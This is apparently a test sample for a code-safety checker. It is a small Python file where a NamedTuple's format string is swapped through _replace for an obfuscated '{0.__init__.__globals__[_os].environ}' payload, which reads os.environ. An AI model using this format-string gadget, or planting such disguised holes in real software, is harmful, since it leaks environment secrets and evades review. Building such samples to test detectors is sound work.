# family: format
# Escape: NamedTuple._replace(...) is public API that rebuilds the tuple with a new field value; the field's
# constant default makes self.fmt.format trusted as a class constant. The value passed is built with
# %-formatting from "__": "{0.__init__.__globals__[_os].environ}" -> os.environ via random.Random.
import random
from typing import NamedTuple


class Column(NamedTuple):
    fmt: str = "{0:>8}"

    def cell(self, value) -> str:
        return self.fmt.format(value)


def tool(u: str = "__") -> str:
    wide = Column()._replace(fmt="{0.%sinit%s.%sglobals%s[_os].environ}" % (u, u, u, u))
    return wide.cell(random.Random())
